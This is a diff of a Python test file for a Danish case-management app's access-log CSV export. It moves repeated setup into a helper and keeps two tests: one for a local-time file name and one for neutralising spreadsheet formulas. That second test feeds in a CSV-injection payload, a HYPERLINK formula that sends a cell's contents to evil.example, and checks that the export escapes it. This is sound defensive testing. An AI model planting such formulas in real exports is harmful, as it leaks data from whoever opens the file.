@@ -122,35 +122,29 @@ def test_nightly_purge_is_scheduled_and_safe_to_run_twice(request_as, uu_user, p
     assert "0 rækker ældre end 30 dage" in out.getvalue()
 
 
+def _export_one(request, person, *, purpose: str):
+    """Log one export of ``person`` and export the log: the response and its one data row."""
+    from stu_case.audit.admin import export_access_log_csv
+
+    access_log_write(
+        request=request, person_ids=[person.pk], action=AccessAction.EXPORT, purpose=purpose
+    )
+    response = export_access_log_csv(AccessLog.objects.all())
+    return response, response.content.decode("utf-8-sig").splitlines()[1]
+
+
 @pytest.mark.time_machine("2027-01-01 00:20 +01:00", tick=False)
 def test_export_is_named_after_the_danish_date_and_time(request_as, uu_user, person):
     # 20 minutes into the new year in Copenhagen it is still 31 December in UTC; the file
     # name carries the local time (only the tidspunkt_utc column is in UTC).
-    from stu_case.audit.admin import export_access_log_csv
-
-    access_log_write(
-        request=request_as(uu_user),
-        person_ids=[person.pk],
-        action=AccessAction.EXPORT,
-        purpose="Statusmøde",
-    )
-    response = export_access_log_csv(AccessLog.objects.all())
+    response, row = _export_one(request_as(uu_user), person, purpose="Statusmøde")
     assert response["Content-Disposition"] == 'attachment; filename="adgangslog-20270101-0020.csv"'
-    row = response.content.decode("utf-8-sig").splitlines()[1]
     assert row.startswith("2026-12-31T23:20:")
 
 
 def test_export_neutralises_spreadsheet_formulas(request_as, uu_user, person):
     """A purpose typed as a formula must not run when the leader opens the export in Excel."""
-    from stu_case.audit.admin import export_access_log_csv
-
-    access_log_write(
-        request=request_as(uu_user),
-        person_ids=[person.pk],
-        action=AccessAction.EXPORT,
-        purpose='=HYPERLINK("https://evil.example/?"&A1;"Klik")',
-    )
-    response = export_access_log_csv(AccessLog.objects.all())
-    row = response.content.decode("utf-8-sig").splitlines()[1]
+    purpose = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
+    _response, row = _export_one(request_as(uu_user), person, purpose=purpose)
     assert ";\"'=HYPERLINK(" in row
     assert ";=HYPERLINK" not in row and ';"=HYPERLINK' not in row
